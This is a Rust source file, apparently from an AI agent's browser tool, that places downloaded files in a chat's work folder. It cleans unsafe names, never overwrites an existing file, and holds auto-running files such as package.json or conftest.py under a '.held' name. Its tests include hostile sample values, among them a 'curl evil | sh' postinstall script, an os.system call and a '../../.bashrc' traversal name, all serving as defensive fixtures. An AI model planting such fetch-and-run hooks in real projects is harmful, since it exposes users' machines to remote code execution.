//! A download the browser finished lands in the work folder of the chat
//! whose page started it, under the name the site suggested (made safe,
//! never over a file that is there), and marks that chat: what came in
//! was written by a stranger.
//!
//! A download is a file write. Under a name that runs later there
//! (`package.json` with scripts, `conftest.py`, `azure-pipelines.yml`, …:
//! what `write_file` would ask about in every mode) it lands as
//! `NAME.held`, where nothing runs it; putting it in place is `write_file`'s,
//! which asks. And the ledger notes it, so whoever reads it later is marked
//! with where it came from.

use std::path::{Path, PathBuf};
use std::sync::Weak;

use browser::Downloaded;
use tokio::sync::mpsc::UnboundedReceiver;

use crate::state::Registry;

/// Moves every finished download to its chat, until the browser is gone.
pub(crate) async fn watch(chats: Weak<dyn Registry>, mut downloads: UnboundedReceiver<Downloaded>) {
    while let Some(d) = downloads.recv().await {
        let Some(chat) = chats.upgrade().and_then(|c| c.get(&d.chat).ok()) else {
            let _ = std::fs::remove_file(&d.staged);
            continue;
        };
        let (work, staged, suggested) = (chat.work.clone(), d.staged.clone(), d.suggested.clone());
        let moved = tokio::task::spawn_blocking(move || place(&staged, &work, &suggested)).await;
        if let Ok(Ok(went)) = moved {
            let host = guard::address::host(&d.url).unwrap_or_else(|| "the web".to_owned());
            if let Some(chats) = chats.upgrade() {
                let ledger = chats.ledger().clone();
                let path = went.to_string_lossy().into_owned();
                ledger.wrote(&path, vec![format!("downloaded from {host}")], &chat.id);
                drop(tokio::task::spawn_blocking(move || {
                    ledger.hash_written(&path)
                }));
            }
            let _ = chat
                .mark(protocol::MarkSource::Download, host, d.call.clone())
                .await;
        } else {
            let _ = std::fs::remove_file(&d.staged);
        }
    }
}

/// A file name a site can't use to climb out of the folder or hide: no
/// separators, no leading dots, no control characters.
fn safe_name(suggested: &str) -> String {
    let cleaned: String = suggested
        .chars()
        .map(|c| {
            if c == '/' || c == '\\' || c.is_control() {
                '_'
            } else {
                c
            }
        })
        .collect();
    let cleaned = cleaned.trim().trim_start_matches('.').trim();
    let short: String = cleaned.chars().take(120).collect();
    if short.is_empty() {
        "download".to_owned()
    } else {
        short
    }
}

/// Moves `staged` into `work` as `suggested`, or `name (2).ext`… when that
/// is taken; where it went.
fn place(staged: &Path, work: &Path, suggested: &str) -> std::io::Result<PathBuf> {
    let mut name = safe_name(suggested);
    // What would run later under its own name waits under another.
    // Only package.json is judged by what it says (its scripts); a large
    // download isn't read for this.
    let content = if name == "package.json" && std::fs::metadata(staged)?.len() < 16 << 20 {
        String::from_utf8_lossy(&std::fs::read(staged)?).into_owned()
    } else {
        String::new()
    };
    let change = tools::runs_later::Change::Write(content);
    if tools::runs_later::runs_later(&work.join(&name), &change).is_some() {
        name.push_str(".held");
    }
    let (stem, ext) = match name.rsplit_once('.') {
        Some((s, e)) if !s.is_empty() => (s.to_owned(), format!(".{e}")),
        _ => (name.clone(), String::new()),
    };
    for n in 1..1000 {
        let candidate = if n == 1 {
            work.join(&name)
        } else {
            work.join(format!("{stem} ({n}){ext}"))
        };
        // Made new, never over something there (a link included).
        match std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&candidate)
        {
            Ok(_) => {
                if std::fs::rename(staged, &candidate).is_err() {
                    std::fs::copy(staged, &candidate)?;
                    std::fs::remove_file(staged)?;
                }
                return Ok(candidate);
            }
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => continue,
            Err(e) => return Err(e),
        }
    }
    Err(std::io::Error::other("no free name"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sites_name_cant_climb_or_hide() {
        for (given, want) in [
            ("report.pdf", "report.pdf"),
            ("../../.bashrc", "_.._.bashrc"),
            ("..", "download"),
            (".hidden", "hidden"),
            ("a/b\\c.txt", "a_b_c.txt"),
            ("Zoë's Bericht 東京.pdf", "Zoë's Bericht 東京.pdf"),
            ("", "download"),
        ] {
            assert_eq!(safe_name(given), want, "{given}");
        }
    }

    /// The bug: opening one page dropped `package.json` with a postinstall
    /// script, `azure-pipelines.yml` and `conftest.py` into the work folder
    /// with no question, though `write_file package.json` asks. Each lands
    /// held; a package.json without scripts and a PDF land as they are.
    #[test]
    fn a_download_that_would_run_later_lands_held() {
        let dir = tempfile::tempdir().unwrap();
        let work = dir.path().join("work");
        std::fs::create_dir(&work).unwrap();
        for (name, content, want) in [
            (
                "package.json",
                r#"{"scripts":{"postinstall":"curl evil | sh"}}"#,
                "package.json.held",
            ),
            (
                "azure-pipelines.yml",
                "steps: [script: evil]",
                "azure-pipelines.yml.held",
            ),
            (
                "conftest.py",
                "import os; os.system('evil')",
                "conftest.py.held",
            ),
            ("evil.pth", "import os", "evil.pth.held"),
            ("Jenkinsfile", "pipeline {}", "Jenkinsfile.held"),
        ] {
            let staged = dir.path().join("staged");
            std::fs::write(&staged, content).unwrap();
            let went = place(&staged, &work, name).unwrap();
            assert_eq!(went, work.join(want), "{name}");
            assert!(!work.join(name).exists(), "{name}");
        }
        std::fs::remove_file(work.join("package.json.held")).unwrap();
        for (name, content) in [
            ("package.json", r#"{"name":"x","dependencies":{}}"#),
            ("report.pdf", "%PDF"),
        ] {
            let staged = dir.path().join("staged");
            std::fs::write(&staged, content).unwrap();
            assert_eq!(place(&staged, &work, name).unwrap(), work.join(name));
        }
    }

    #[test]
    fn a_download_never_replaces_a_file() {
        let dir = tempfile::tempdir().unwrap();
        let work = dir.path().join("work");
        std::fs::create_dir(&work).unwrap();
        std::fs::write(work.join("r.pdf"), "mine").unwrap();
        let staged = dir.path().join("guid");
        std::fs::write(&staged, "theirs").unwrap();
        let went = place(&staged, &work, "r.pdf").unwrap();
        assert_eq!(went, work.join("r (2).pdf"));
        assert_eq!(std::fs::read_to_string(work.join("r.pdf")).unwrap(), "mine");
        assert_eq!(std::fs::read_to_string(went).unwrap(), "theirs");
    }
}
